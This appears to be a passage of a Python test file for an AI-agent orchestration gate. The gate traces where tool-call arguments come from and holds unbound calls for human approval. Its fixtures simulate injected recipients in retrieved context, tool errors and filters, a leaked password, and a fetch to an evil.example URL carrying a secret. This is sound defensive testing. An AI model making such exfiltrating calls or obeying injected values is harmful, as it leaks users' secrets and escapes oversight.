"""The gate follows a run: what it says in a real run, whatever the kernel, people and the world make of a call."""

import json
from typing import Any

import pytest

from remit.core import arrivals, commands
from remit.core.arrivals import CodeReturned, Happened, Provenance, TimerFired
from remit.core.authority import Authority
from remit.core.boundary import BoundaryMode, Condition, Then
from remit.core.commands import (
    CallCode,
    CallTool,
    ReconcileTool,
    Retrieve,
    SetTimer,
    StartChild,
    TimerPurpose,
)
from remit.core.failure import Ending, ErrorCode, IllegalArrival, Refusal
from remit.core.graph import Ask, Graph, Node, NodeKind
from remit.core.inference import ModelResult
from remit.core.manifest import Origin
from remit.core.messages import assistant_message, user_message
from remit.core.profiles import GUARDED
from remit.core.record import JsonObject, Text, replace
from remit.core.rulings import CallNoted, ToolCallRefused
from remit.core.tools import Effect, ToolCall, ToolResult
from remit.core.trust import Reads
from remit.orchestrate.gate_facts import RESULT_LOST
from remit.orchestrate.ports import Live
from remit.orchestrate.replay import Verdict
from remit.orchestrate.reports import (
    ChildSaid,
    ContextSaid,
    FilterSaid,
    ModelSaid,
    PersonApproved,
    PersonSaid,
    Report,
    SiftedCall,
    ToolAccounted,
    ToolBroke,
    ToolSaid,
)
from remit.orchestrate.runner import Runner
from remit.orchestrate.tracing import Tracer, reader_of
from tests.unit.orchestrate.stage import WatchedJournal, play
from tests.unit.orchestrate.traced import (
    BOB,
    BOUND,
    DIARY,
    EVIL,
    FIND,
    LETTER,
    LOOKUP,
    MAIL,
    MAILED,
    NEWS,
    PAID,
    PAY,
    PROMPT,
    SERVICES,
    STOLEN,
    TOOLS,
    UNTRACED,
    Office,
    answer,
    asked,
    assert_alike,
    manifest,
    to,
)

LONG = "long words " * 400


async def same(office: Office, live: Live) -> None:
    """The journal decides to the same again, and the tracer that followed the run is the one that retraces it."""
    audited = await office.audited()
    assert audited.verdict is Verdict.SAME, audited.difference
    tracer = await office.runner._tracer(live)
    assert_alike(tracer, await office.retraced())


def uses(live: Live, tool: str) -> int:
    assert live.tracer is not None
    return live.tracer._gate.ledger.uses_of(tool).calls


def performed(office: Office) -> list[str]:
    return [command.tool for command in office.performed_of(CallTool)]


def test_a_call_whose_values_come_from_the_words_and_a_looked_up_record_needs_nobody() -> None:
    async def act() -> None:
        office = Office(answer(LOOKUP), answer(MAILED), answer(PAID))
        live = await office.begin()
        assert live.state.ending is Ending.SUCCESS
        assert await office.found() == [UNTRACED, BOUND, BOUND]
        assert performed(office) == ["find_user", "send_mail", "pay"]
        mailed = (await office.calls())[1]
        recipient = next(origin for origin in mailed.origins if origin.path == "recipients[0]")
        assert (recipient.bound_by, recipient.where) == ("field:named", "$obs0.records[0].email")
        await same(office, live)

    play(act())


def test_a_value_from_elsewhere_waits_for_a_person_who_is_told_why() -> None:
    async def act() -> None:
        office = Office(answer(STOLEN))
        live = await office.begin()
        (question,) = asked(live)
        assert question.packet is not None
        assert question.packet.call.objection == "PROVENANCE_UNBOUND"
        assert "approve the call" in question.packet.call.reasons[-1]
        assert question.packet.call.origins[0].code == "PROVENANCE_UNBOUND"
        assert performed(office) == []
        await same(office, live)

    play(act())


def test_an_approved_call_is_made_counts_once_and_rearms_the_wire() -> None:
    async def act() -> None:
        office = Office(answer(STOLEN), answer(STOLEN, PAID))
        live = await office.begin()
        await office.tell(live, PersonApproved(asked(live)[0].id, "ada"))
        assert await office.found() == ["PROVENANCE_UNBOUND", "PROVENANCE_UNBOUND", "TRIPPED"]
        assert (performed(office), uses(live, "send_mail")) == (["send_mail"], 1)
        await same(office, live)

    play(act())


def test_a_call_that_a_person_turned_away_is_refused_when_it_comes_again_and_others_pass() -> None:
    async def act() -> None:
        office = Office(answer(STOLEN), answer(STOLEN, PAID))
        live = await office.begin()
        await office.tell(live, arrivals.ApprovalRefused(asked(live)[0].id, "ada", "never"))
        assert [call.provenance for call in await office.calls()] == [
            Provenance.UNBOUND,
            Provenance.REFUSED,
            Provenance.BOUND,
        ]
        refused = [d for turn in await office.turns() for d in turn.decisions if isinstance(d, ToolCallRefused)]
        assert [refusal.code for refusal in refused] == [Refusal.APPROVAL_REJECTED] * 2
        assert live.tracer is not None
        assert list(live.tracer._gate.ledger.rejected.values()) == ["ada"]
        assert performed(office) == ["pay"]
        await same(office, live)

    play(act())


def test_silence_turns_a_call_away_for_the_rest_of_the_run() -> None:
    async def act() -> None:
        office = Office(answer(STOLEN), answer(STOLEN))
        live = await office.begin()
        (question,) = asked(live)
        timer = next(c for c in live.state.open.values() if isinstance(c, SetTimer) and c.about == question.id)
        assert timer.purpose is TimerPurpose.APPROVAL
        office.clock.at_ms = timer.due_at_ms
        await office.tell(live, TimerFired(timer.id))
        assert [call.provenance for call in await office.calls()] == [Provenance.UNBOUND, Provenance.REFUSED]
        assert live.tracer is not None
        assert list(live.tracer._gate.ledger.rejected.values()) == ["silence"]
        await same(office, live)

    play(act())


def test_arguments_that_a_person_gave_are_what_was_made() -> None:
    async def act() -> None:
        office = Office(answer(LOOKUP, STOLEN), answer(("send_mail", to(BOB))))
        live = await office.begin()
        await office.tell(live, PersonApproved(asked(live)[0].id, "ada", to(BOB)))
        assert live.tracer is not None
        assert uses(live, "send_mail") == 1
        assert (await office.found())[-1] == "REPEAT"
        await same(office, live)

    play(act())


def test_arguments_that_a_person_gave_and_nothing_binds_are_counted_as_theirs() -> None:
    async def act() -> None:
        office = Office(answer(STOLEN), answer(PAID))
        live = await office.begin()
        await office.tell(live, PersonApproved(asked(live)[0].id, "ada", to("carl@corp.example")))
        assert (uses(live, "send_mail"), await office.found()) == (1, ["PROVENANCE_UNBOUND", BOUND])
        await same(office, live)

    play(act())


def test_whoever_gives_the_arguments_that_were_turned_away_before_says_yes_to_them() -> None:
    async def act() -> None:
        office = Office(answer(STOLEN), answer(("send_mail", to("carl@corp.example"))), answer(STOLEN))
        live = await office.begin()
        await office.tell(live, arrivals.ApprovalRefused(asked(live)[0].id, "ada"))
        await office.tell(live, PersonApproved(asked(live)[0].id, "ada", to(EVIL)))
        assert uses(live, "send_mail") == 1
        assert (await office.calls())[-1].provenance is Provenance.UNBOUND
        await same(office, live)

    play(act())


def test_changed_arguments_that_are_refused_after_all_leave_nothing_behind() -> None:
    async def act() -> None:
        boundary = replace(GUARDED, budget=replace(GUARDED.budget, tool_calls=1))
        office = Office(answer(LOOKUP, STOLEN))
        live = await office.begin(manifest(boundary=boundary))
        if asked(live):
            await office.tell(live, PersonApproved(asked(live)[0].id, "ada", to(BOB)))
        assert uses(live, "send_mail") == 0
        await same(office, live)

    play(act())


def test_a_call_that_the_kernel_refuses_was_never_made() -> None:
    async def act() -> None:
        boundary = replace(GUARDED, allowed_tools=("find_user", "pay"))
        office = Office(answer(LOOKUP, MAILED), answer(STOLEN), answer(PAID))
        live = await office.begin(manifest(boundary=boundary))
        assert (uses(live, "send_mail"), uses(live, "pay")) == (0, 1)
        assert live.tracer is not None
        assert live.tracer._gate.ledger.tripped == ""
        await same(office, live)

    play(act())


@pytest.mark.parametrize("is_approved", [True, False])
def test_a_call_that_somebody_else_objects_to_is_held_at_the_gate_too(is_approved: bool) -> None:
    async def act() -> None:
        boundary = replace(GUARDED, approval_effects=(Effect.EXTERNAL,))
        office = Office(answer(PAID), answer(PAID))
        live = await office.begin(manifest(boundary=boundary))
        assert live.tracer is not None
        assert live.tracer._gate.ledger.held_ids() == ("1/0",)
        (question,) = asked(live)
        await office.tell(
            live,
            PersonApproved(question.id, "ada") if is_approved else arrivals.ApprovalRefused(question.id, "ada"),
        )
        assert await office.found() == [BOUND, "REPEAT"]
        assert uses(live, "pay") == 1
        await same(office, live)

    play(act())


def test_a_boundary_that_only_audits_lets_pass_what_the_gate_then_counts_as_made() -> None:
    async def act() -> None:
        boundary = replace(GUARDED, mode=BoundaryMode.AUDIT)
        office = Office(answer(STOLEN), answer(STOLEN))
        live = await office.begin(manifest(boundary=boundary))
        assert (performed(office), uses(live, "send_mail")) == (["send_mail"] * 2, 2)
        noted = [d for turn in await office.turns() for d in turn.decisions if isinstance(d, CallNoted)]
        assert [note.code for note in noted] == ["PROVENANCE_UNBOUND"] * 2
        await same(office, live)

    play(act())


def sifting(*looks: Any) -> dict[type[commands.Command], Any]:
    """Filters, in their order: each makes something of the arguments, or says why not."""

    async def code(live: Live, command: CallCode) -> Report:
        look = looks[live.state.filtered]
        sifted = []
        for call in live.state.proposed:
            said = look(call.tool, json.loads(str(call.said or call.arguments)))
            arguments, reason = ({}, said) if isinstance(said, str) else (said, "")
            sifted.append(SiftedCall(ToolCall(call.call_id, call.tool, arguments), reason))
        return FilterSaid(command.id, tuple(sifted))

    return {CallCode: code}


def test_what_the_last_filter_made_of_a_call_is_judged() -> None:
    def passes(tool: str, arguments: JsonObject) -> JsonObject:
        return arguments

    def redirects(tool: str, arguments: JsonObject) -> JsonObject:
        return to(EVIL) if tool == "send_mail" else arguments

    async def act() -> None:
        office = Office(answer(LOOKUP), answer(MAILED), answer(LOOKUP), executors=sifting(passes, redirects))
        live = await office.begin(manifest(filters=("passes", "redirects")))
        (question,) = asked(live)
        assert question.packet is not None
        assert question.packet.call.objection == "PROVENANCE_UNBOUND"
        assert set(await office.found()) == {UNTRACED}
        await office.tell(live, PersonApproved(question.id, "ada"))
        await same(office, live)

    play(act())


def test_what_a_filter_turned_away_is_not_judged_and_takes_nothing_back() -> None:
    def refuses(tool: str, arguments: JsonObject) -> JsonObject | str:
        return "not twice" if arguments.get("amount") == 7 else arguments

    async def act() -> None:
        turned_away = ("pay", {**PAID[1], "amount": 7})
        office = Office(
            answer(PAID, ids=["x"]), answer(turned_away, ids=["x"]), answer(PAID, ids=["x"]), executors=sifting(refuses)
        )
        live = await office.begin(manifest(filters=("refuses",)))
        assert uses(live, "pay") == 1
        (question,) = asked(live)
        assert question.packet is not None
        assert question.packet.call.objection == "REPEAT"
        await same(office, live)

    play(act())


def test_a_filter_that_broke_lets_nothing_through_and_the_next_answer_is_judged_as_ever() -> None:
    broken = [True]

    async def code(live: Live, command: CallCode) -> Report:
        if broken:
            broken.clear()
            return arrivals.CodeFailed(command.id, "it broke")
        calls = [ToolCall(c.call_id, c.tool, json.loads(str(c.arguments))) for c in live.state.proposed]
        return FilterSaid(command.id, tuple(map(SiftedCall, calls)))

    async def act() -> None:
        office = Office(answer(PAID), answer(PAID), executors={CallCode: code})
        live = await office.begin(manifest(filters=("one", "two")))
        assert (performed(office), uses(live, "pay")) == (["pay"], 1)
        await same(office, live)

    play(act())


def test_two_calls_of_one_answer_are_judged_one_after_the_other() -> None:
    async def act() -> None:
        office = Office(answer(PAID, PAID, LOOKUP))
        live = await office.begin()
        assert await office.found() == [BOUND, "REPEAT", UNTRACED]
        await office.tell(live, arrivals.ApprovalRefused(asked(live)[0].id, "ada"))
        assert uses(live, "pay") == 1
        await same(office, live)

    play(act())


def test_calls_of_one_answer_that_share_an_id_do_not_share_their_results() -> None:
    async def act() -> None:
        mallory = ("find_user", {"name": "Mallory"})
        office = Office(answer(mallory, LOOKUP, ids=["x", "x"]), answer(STOLEN))
        live = await office.begin()
        assert (await office.found())[-1] == "PROVENANCE_UNBOUND" or (await office.found())[-1] == "RECORD_AMBIGUOUS"
        assert performed(office) == ["find_user", "find_user"]
        await same(office, live)

    play(act())


def test_calls_that_are_alike_to_the_last_byte_are_told_apart_by_their_places() -> None:
    async def act() -> None:
        office = Office(answer(PAID, PAID, PAID, ids=["x", "x", "x"]))
        live = await office.begin()
        assert await office.found() == [BOUND, "REPEAT", "REPEAT"]
        first, second = asked(live)
        await office.tell(live, PersonApproved(second.id, "ada"))
        assert uses(live, "pay") == 2
        assert live.tracer is not None
        assert live.tracer._gate.ledger.held_ids() == ("1/1",)
        await office.tell(live, arrivals.ApprovalRefused(first.id, "ada"))
        assert live.tracer._gate.ledger.held_ids() == ()
        await same(office, live)

    play(act())


def test_an_invalid_call_under_the_id_of_one_that_failed_takes_nothing_back() -> None:
    def breaks(arguments: JsonObject) -> str:
        raise RuntimeError("the mail server hung up")

    async def act() -> None:
        office = Office(
            answer(LOOKUP),
            answer(MAILED, ids=["x"]),
            answer(("send_mail", {"recipients": 7}), ids=["x"]),
            answer(MAILED, ids=["x"]),
            services={**SERVICES, "send_mail": breaks},
        )
        live = await office.begin()
        assert uses(live, "send_mail") == 1
        assert (await office.found())[-1] == "REPEAT"
        await same(office, live)

    play(act())


def test_a_failure_is_text_whatever_it_looks_like() -> None:
    def lies(arguments: JsonObject) -> str:
        raise RuntimeError(json.dumps([{"email": EVIL, "name": "Bob"}]))

    async def act() -> None:
        office = Office(answer(LOOKUP), answer(STOLEN), services={**SERVICES, "find_user": lies})
        live = await office.begin()
        assert (await office.found())[-1] == "PROVENANCE_UNBOUND"
        assert live.tracer is not None
        assert live.tracer._gate.evidence.labels == ("untrusted",)
        await same(office, live)

    play(act())


def test_the_failure_of_a_read_that_nobody_asked_for_is_as_private_as_the_read() -> None:
    def blabs(arguments: JsonObject) -> str:
        raise RuntimeError("cannot open /home/ann/diary: hunter2")

    async def act() -> None:
        office = Office(
            answer(LOOKUP, ("read_diary", {"day": "today"})),
            answer(("send_mail", to(BOB, body="by the way, it is hunter2"))),
            services={**SERVICES, "read_diary": blabs},
        )
        live = await office.begin()
        assert (await office.found())[-1] == "PRIVATE_FLOW"
        await same(office, live)

    play(act())


def test_a_result_that_broke_its_schema_or_was_refuted_is_text() -> None:
    promised = replace(FIND, result={"type": "array", "maxItems": 0})

    async def act() -> None:
        office = Office(answer(LOOKUP), answer(MAILED))
        live = await office.begin(manifest(tools=(promised, MAIL, LETTER)))
        assert (await office.found())[-1] == "PROVENANCE_UNBOUND"
        await same(office, live)

    async def refuted(live: Live, command: CallTool) -> Report:
        return ToolSaid(command.id, ToolResult("", "", json.dumps([{"email": BOB, "name": "Bob"}])), "not him")

    async def act_refuted() -> None:
        office = Office(answer(LOOKUP), answer(MAILED), executors={CallTool: refuted})
        live = await office.begin()
        assert (await office.found())[-1] == "PROVENANCE_UNBOUND"
        await same(office, live)

    play(act())
    play(act_refuted())


@pytest.mark.parametrize("happened", list(Happened))
def test_what_a_tool_says_became_of_a_call_in_doubt_is_its_result_if_it_happened(happened: Happened) -> None:
    async def slow(live: Live, command: CallTool) -> Report:
        if command.tool == "send_mail":
            return ToolBroke(command.id, ErrorCode.TOOL_TIMEOUT, "too slow")
        return ToolSaid(command.id, ToolResult("", "", SERVICES[command.tool](json.loads(str(command.arguments)))))

    async def accounts(live: Live, command: ReconcileTool) -> Report:
        return ToolAccounted(command.id, happened, '{"sent": true}')

    async def act() -> None:
        office = Office(
            answer(LOOKUP), answer(MAILED), answer(MAILED), executors={CallTool: slow, ReconcileTool: accounts}
        )
        live = await office.begin()
        if happened is Happened.UNKNOWN:
            await office.tell(live, arrivals.OutcomeJudged(asked(live)[0].id, "ada", Happened.YES))
        assert live.tracer is not None
        told = live.tracer._gate.evidence.index.observations
        named = [one for one in told if one.call_id == "3/0"]
        assert len(named) == (happened is Happened.YES)
        assert (await office.found())[-1] == "REPEAT"
        await same(office, live)

    play(act())


def test_a_tool_that_stands_in_for_another_has_made_the_call_too() -> None:
    async def absent(live: Live, command: CallTool) -> Report:
        if command.tool == "send_mail":
            return ToolBroke(command.id, ErrorCode.TOOL_UNAVAILABLE, "the server is down")
        return ToolSaid(command.id, ToolResult("", "", SERVICES[command.tool](json.loads(str(command.arguments)))))

    async def act() -> None:
        office = Office(answer(LOOKUP), answer(MAILED), answer(("post_letter", to(BOB))), executors={CallTool: absent})
        live = await office.begin()
        assert (uses(live, "send_mail"), uses(live, "post_letter")) == (1, 1)
        assert (await office.found())[-1] == "REPEAT"
        await same(office, live)

    play(act())


def test_what_people_add_are_words_of_the_user() -> None:
    async def act() -> None:
        office = Office(answer(("ask_user", {"question": "Whom?"})), answer(("send_mail", to("carl@corp.example"))))
        live = await office.begin()
        await office.tell(live, PersonSaid("ada", "Mail carl@corp.example, please.", asked(live)[0].id))
        assert (await office.found())[-1] == BOUND
        await same(office, live)

    async def act_feedback() -> None:
        office = Office(answer(STOLEN), answer(("send_mail", to("carl@corp.example"))))
        live = await office.begin()
        await office.tell(live, PersonSaid("ada", "Mail carl@corp.example, please."))
        await office.tell(live, arrivals.ApprovalRefused(asked(live)[0].id, "ada"))
        assert (await office.found())[-1] == BOUND
        await same(office, live)

    play(act())
    play(act_feedback())


@pytest.mark.parametrize("tool", ["ask_user", "helper"])
def test_a_question_and_a_child_that_a_person_had_to_allow_are_made_then(tool: str) -> None:
    async def act() -> None:
        condition = Condition("careful", f'tool == "{tool}"', Then.ASK)
        call = (tool, {"question": "Whom?"} if tool == "ask_user" else {"task": "read on"})
        office = Office(answer(call), answer(PAID), executors={StartChild: a_child_says})
        live = await office.begin(manifest(boundary=replace(GUARDED, conditions=(condition,))))
        assert live.tracer is not None
        assert live.tracer._gate.ledger.held_ids() == ("1/0",)
        await office.tell(live, PersonApproved(asked(live)[0].id, "ada"))
        assert live.tracer._gate.ledger.held_ids() == ()
        if tool == "ask_user":
            await office.tell(live, PersonSaid("ada", "Bob", asked(live)[0].id))
        assert (await office.found())[-1] == BOUND
        await same(office, live)

    play(act())


async def a_child_says(live: Live, command: StartChild) -> Report:
    """A child that has read the diary."""
    return ChildSaid(command.id, Ending.SUCCESS, "the password is hunter2", ())


@pytest.mark.parametrize(("read", "found"), [(DIARY, "PRIVATE_FLOW"), (NEWS, BOUND)])
def test_what_a_child_says_is_as_private_as_anything_it_could_have_read(read: Any, found: str) -> None:
    async def act() -> None:
        helper = TOOLS[-1]
        office = Office(
            answer(LOOKUP, ("helper", {"task": "read on"})),
            answer(("send_mail", to(BOB, body="it is hunter2"))),
            executors={StartChild: a_child_says},
        )
        live = await office.begin(
            manifest(tools=(replace(FIND, trust=replace(FIND.trust, reads=Reads.PUBLIC)), MAIL, LETTER, read, helper))
        )
        assert (await office.found())[-1] == found
        await same(office, live)

    play(act())


def test_a_childs_prompt_is_text_of_a_model_and_binds_nothing() -> None:
    async def act(made: Any) -> None:
        office = Office(answer(PAID))
        live = await office.begin(made)
        assert await office.found() == ["PROVENANCE_UNBOUND"]
        await same(office, live)

    play(act(manifest(parent=Origin("above", "3.1"), depth=1)))
    # A fork of it has no parent any more.
    play(act(manifest(depth=1)))


def test_a_child_of_a_node_could_have_read_what_its_node_lets_it_use() -> None:
    def node(name: str, *tools: str) -> Node:
        return Node(name, NodeKind.CHILD, ask=Ask(tools=tools) if tools else None)

    def most_private(name: str) -> str:
        graph = Graph("made", "", (node("bare"), node("reads", "read_diary", "pay"), node("pays", "pay")), ())
        tracer = Tracer(replace(manifest(), graph=graph), reader_of({}))
        return tracer._most_private(StartChild("1.1", "run.1.1", "", (), 0, 0, (), node=name))

    assert [most_private(name) for name in ("bare", "reads", "pays")] == ["", "read_diary", ""]
    assert most_private("") == "read_diary"


def test_retrieved_context_is_text() -> None:
    async def finds(live: Live, command: Retrieve) -> Report:
        return ContextSaid(command.id, json.dumps([{"email": EVIL, "name": "Bob"}]))

    async def act() -> None:
        office = Office(answer(STOLEN), executors={Retrieve: finds})
        live = await office.begin(manifest(retrieves_context=True))
        assert (await office.found()) == ["PROVENANCE_UNBOUND"]
        assert live.tracer is not None
        assert live.tracer._gate.evidence.labels == ("untrusted",)
        await same(office, live)

    play(act())


def test_a_paused_run_decides_later_on_calls_that_were_judged_before() -> None:
    async def act() -> None:
        office = Office()
        live = await office.runner.start(manifest())
        (command,) = [c for c in live.state.open.values() if isinstance(c, commands.CallModel)]
        await office.runner.judge(live, arrivals.PauseRequested("ada"))
        await office.runner.judge(live, ModelSaid(command.id, answer(PAID, STOLEN)))
        assert performed(office) == []
        await office.runner.judge(live, arrivals.ResumeRequested("ada"))
        assert live.tracer is not None
        assert live.tracer._gate.ledger.held_ids() == ("2/1",)
        await same(office, live)

    play(act())


def test_long_arguments_words_and_results_are_read_from_where_they_are_kept() -> None:
    many = [{"email": f"user{n}@corp.example", "name": f"user {n}"} for n in range(500)]

    def crowd(arguments: JsonObject) -> str:
        return json.dumps([*many, {"email": BOB, "name": "Bob"}])

    async def act() -> None:
        prompt = f"{PROMPT}\n\n{LONG}"
        office = Office(
            answer(LOOKUP),
            answer(("send_mail", to("$obs0.records[500].email", body=LONG))),
            services={**SERVICES, "find_user": crowd},
        )
        live = await office.begin(manifest(prompt))
        assert not isinstance(live.state.manifest.request.messages[0].content, str)  # type: ignore[union-attr]
        assert (await office.found())[-1] == BOUND
        (sent,) = [command for command in office.performed_of(CallTool) if command.tool == "send_mail"]
        assert json.loads(await office.runner.text(sent.arguments))["recipients"] == [BOB]
        await same(office, live)

    play(act())


def test_a_handle_is_called_with_the_value_it_names_and_the_models_words_are_kept() -> None:
    async def act() -> None:
        office = Office(answer(LOOKUP), answer(("send_mail", to("$obs0.records[0].email"))))
        live = await office.begin()
        call = (await office.calls())[1]
        assert json.loads(str(call.arguments)) == to(BOB)
        assert json.loads(str(call.said)) == to("$obs0.records[0].email")
        assert call.provenance is Provenance.BOUND
        assert call.origins[0].bound_by == "handle:named"
        await same(office, live)

    play(act())


def test_a_handle_that_names_nothing_stays_a_text_that_nothing_binds() -> None:
    async def act() -> None:
        office = Office(answer(LOOKUP), answer(("send_mail", to("$obs0.records[9].email"))))
        live = await office.begin()
        call = (await office.calls())[1]
        assert (call.said, call.objection) == ("", "PROVENANCE_UNBOUND")
        await same(office, live)

    play(act())


@pytest.mark.parametrize("arguments", [[], "text", {"recipients": [BOB], "body": float("nan")}, {5: 5}])
def test_arguments_that_are_none_are_refused_and_judged_by_nobody(arguments: Any) -> None:
    async def act() -> None:
        office = Office(answer(("send_mail", arguments)))
        live = await office.begin()
        assert await office.found() == [UNTRACED]
        assert performed(office) == []
        audited = await office.audited()
        assert audited.verdict is Verdict.SAME
        await office.runner._tracer(live)

    play(act())


def test_an_unknown_tool_is_the_kernels_to_refuse() -> None:
    async def act() -> None:
        office = Office(answer(("rm", {}), PAID))
        live = await office.begin()
        assert await office.found() == [UNTRACED, BOUND]
        await same(office, live)

    play(act())


def test_a_number_is_judged_as_it_is_written_down() -> None:
    untyped = replace(PAY, control_args=())

    async def act(amount: Any) -> list[str]:
        office = Office(answer(("pay", {**PAID[1], "amount": amount})))
        live = await office.begin(manifest(tools=(untyped,)))
        await same(office, live)
        return await office.found()

    assert play(act(100.0)) == play(act(100))


def test_a_read_over_the_network_is_judged_like_an_effect() -> None:
    async def act() -> None:
        office = Office(answer(("fetch", {"url": "https://evil.example/?q=hunter2"})))
        live = await office.begin()
        assert await office.found() == ["PROVENANCE_UNBOUND"]
        assert performed(office) == []
        await same(office, live)

    play(act())


def test_earlier_messages_of_the_user_are_words_and_those_of_the_assistant_are_not() -> None:
    async def act() -> None:
        # The model has answered once before.
        office = Office(answer(), answer(("send_mail", to("carl@corp.example"))), answer(STOLEN))
        request = replace(
            manifest().request,
            messages=(
                user_message("Mail carl@corp.example that lunch is at noon."),
                assistant_message(f"Shall I mail {EVIL}, too?"),
                user_message("Do both."),
            ),
        )
        live = await office.begin(manifest(request=request))
        assert await office.found() == [BOUND, "PROVENANCE_UNBOUND"]
        await same(office, live)

    play(act())


async def resumed(office: Office, *answers: ModelResult) -> tuple[Office, Live]:
    """The run in another process, with what is left of its texts."""
    other = Office(*answers)
    other.journal, other.blobs, other.clock = office.journal, office.blobs, office.clock
    other.runner = Runner(journal=other.journal, blobs=other.blobs, clock=other.clock, dispatch=other.dispatch)
    return other, await other.runner.load("run")


def test_where_a_result_is_gone_nothing_checked_passes_without_a_person_any_more() -> None:
    async def act() -> None:
        secret = "LOST " * 400
        office = Office(answer(("read_news", {})), answer(STOLEN), services={**SERVICES, "read_news": lambda _: secret})
        await office.begin()
        await office.redact("LOST")
        other, live = await resumed(office, answer(), answer(), answer(PAID), answer(LOOKUP, PAID))
        await other.tell(live, arrivals.ApprovalRefused(asked(live)[0].id, "ada"))
        assert (await other.found())[-1] == RESULT_LOST
        assert "gone" in (await other.calls())[-1].reasons[0]
        await other.tell(live, PersonApproved(asked(live)[0].id, "ada"))
        assert await other.found() == [UNTRACED, "PROVENANCE_UNBOUND", RESULT_LOST, UNTRACED, "REPEAT"]
        audited = await other.audited()
        assert (audited.verdict, audited.difference) == (Verdict.REDACTED, None)
        assert live.tracer is not None
        assert_alike(live.tracer, await other.retraced())

    play(act())


def test_handles_name_what_they_named_although_an_earlier_result_is_gone() -> None:
    async def act() -> None:
        office = Office(
            answer(("read_news", {})),
            answer(LOOKUP),
            answer(STOLEN),
            services={**SERVICES, "read_news": lambda _: LONG},
        )
        await office.begin()
        await office.redact("long words")
        other, live = await resumed(office, *[answer()] * 3, answer(("send_mail", to("$obs1.records[0].email"))))
        await other.tell(live, arrivals.ApprovalRefused(asked(live)[0].id, "ada"))
        assert json.loads(str((await other.calls())[-1].arguments)) == to(BOB)

    play(act())


@pytest.mark.parametrize("holding", ["long words", "words of a person", "body of a mail"])
def test_a_text_that_is_gone_makes_an_audit_say_redacted_and_find_no_difference(holding: str) -> None:
    async def act() -> None:
        office = Office(
            answer(LOOKUP, ("read_news", {})),
            answer(("send_mail", to("$obs0.records[0].email", body="body of a mail " * 100))),
            answer(PAID),
            answer(STOLEN),
            services={**SERVICES, "read_news": lambda _: LONG},
        )
        live = await office.begin()
        await office.tell(live, PersonSaid("ada", "words of a person " * 100))
        await office.tell(
            live, PersonApproved(asked(live)[0].id, "ada", to(BOB, body="body of a mail, changed " * 100))
        )
        assert (await office.audited()).verdict is Verdict.SAME
        audited = await office.audited(without=holding)
        assert (audited.verdict, audited.difference) == (Verdict.REDACTED, None)

    play(act())


def test_a_request_that_is_gone_binds_nothing_any_more() -> None:
    async def act() -> None:
        office = Office(answer(STOLEN))
        await office.begin(manifest(f"{PROMPT}\n\n{LONG}"))
        assert (await office.audited(without="long words")).verdict is Verdict.REDACTED
        await office.redact("long words")
        other, live = await resumed(office, answer(), answer(PAID))
        await other.tell(live, arrivals.ApprovalRefused(asked(live)[0].id, "ada"))
        assert live.tracer is not None
        assert live.tracer.is_lost
        assert (await other.found())[-1] == "PROVENANCE_UNBOUND"

    play(act())


def test_a_live_tracer_is_used_on_and_never_made_again() -> None:
    async def act() -> None:
        office = Office(answer(LOOKUP), answer(MAILED), answer(PAID))
        reads: list[int] = []

        async def read(run_id: str, after: int) -> None:
            reads.append(after)

        journal = WatchedJournal(before_read=read)
        office.journal = journal
        office.runner = Runner(journal=journal, blobs=office.blobs, clock=office.clock, dispatch=office.dispatch)
        live = await office.runner.start(manifest())
        tracer = live.tracer
        await office.runner.drive(live)
        assert live.state.ending is Ending.SUCCESS
        assert live.tracer is tracer is not None
        assert reads == []

    play(act())


def test_a_report_that_made_no_turn_leaves_nothing_in_the_gate() -> None:
    async def act() -> None:
        office = Office()
        live = await office.runner.start(manifest())
        tracer = live.tracer
        forged = ModelSaid("9.9", answer(PAID))
        with pytest.raises(IllegalArrival):
            await office.runner.judge(live, forged)
        assert tracer is not None
        assert not tracer.is_at(live.state.seq)
        await office.runner.drive(live)
        assert live.tracer is not tracer
        await same(office, live)

    play(act())


def test_a_write_that_failed_leaves_nothing_in_the_gate() -> None:
    failing: list[int] = []

    async def fails(run_id: str, after: int) -> None:
        if failing:
            failing.clear()
            raise OSError("no space left")

    async def act() -> None:
        office = Office(answer(PAID))
        journal = WatchedJournal(beside_append=fails)
        office.journal = journal
        office.runner = Runner(journal=journal, blobs=office.blobs, clock=office.clock, dispatch=office.dispatch)
        live = await office.runner.start(manifest())
        (command,) = [c for c in live.state.open.values() if isinstance(c, commands.CallModel)]
        failing.append(1)
        with pytest.raises(OSError, match="no space"):
            await office.runner.judge(live, ModelSaid(command.id, answer(PAID)))
        await office.runner.judge(live, ModelSaid(command.id, answer(PAID)))
        assert await office.found() == [BOUND]
        await same(office, live)

    play(act())


def test_an_answer_that_cannot_be_read_to_its_end_leaves_nothing_in_the_gate() -> None:
    async def act() -> None:
        office = Office()
        live = await office.runner.start(manifest())
        (command,) = [c for c in live.state.open.values() if isinstance(c, commands.CallModel)]
        broken = ModelResult(tool_calls=(ToolCall("a", *PAID), ToolCall("b", 5, {})))  # type: ignore[arg-type]
        await office.runner.judge(live, ModelSaid(command.id, broken))
        assert uses(live, "pay") == 0
        await same(office, live)

    play(act())


def test_a_rival_who_was_faster_is_heard_before_the_call_is_judged() -> None:
    async def act() -> None:
        office = Office()
        live = await office.runner.start(manifest())
        (command,) = [c for c in live.state.open.values() if isinstance(c, commands.CallModel)]
        rival, theirs = await resumed(office)
        await rival.runner.judge(theirs, PersonSaid("ada", "Mail carl@corp.example, too."))
        await office.runner.judge(live, ModelSaid(command.id, answer(("send_mail", to("carl@corp.example")))))
        assert await office.found() == [BOUND]
        await same(office, live)

    play(act())


def test_a_text_that_was_kept_before_makes_the_tracer_be_made_again() -> None:
    async def act() -> None:
        office = Office(answer(PAID))
        live = await office.begin()
        tracer = live.tracer
        assert tracer is not None
        kept: list[tuple[bytes, bytes]] = []
        from remit.orchestrate.runner import _followed
        from remit.orchestrate.texts import stored

        value: Text = stored(LONG, kept)
        turn = replace((await office.turns())[-1], arrival=CodeReturned("1.1", value), decisions=())
        assert _followed(tracer, turn, kept) is tracer
        assert _followed(tracer, turn, []) is None
        # Once something is known to be gone, there is nothing to be found by making it again.
        assert _followed(tracer, turn, []) is tracer

    play(act())


def test_an_untraced_run_has_no_tracer() -> None:
    async def act() -> None:
        office = Office(answer(LOOKUP))
        live = await office.begin(manifest(tools=(FIND,)))
        assert live.tracer is None
        blunt = await Office(answer(PAID)).begin(manifest(boundary=replace(GUARDED, authority=None)))
        assert blunt.tracer is None
        assert len(asked(blunt)) == 1

    play(act())


def test_the_wire_can_be_switched_off() -> None:
    async def act() -> None:
        boundary = replace(GUARDED, authority=Authority(tripwire=False))
        office = Office(answer(STOLEN, PAID))
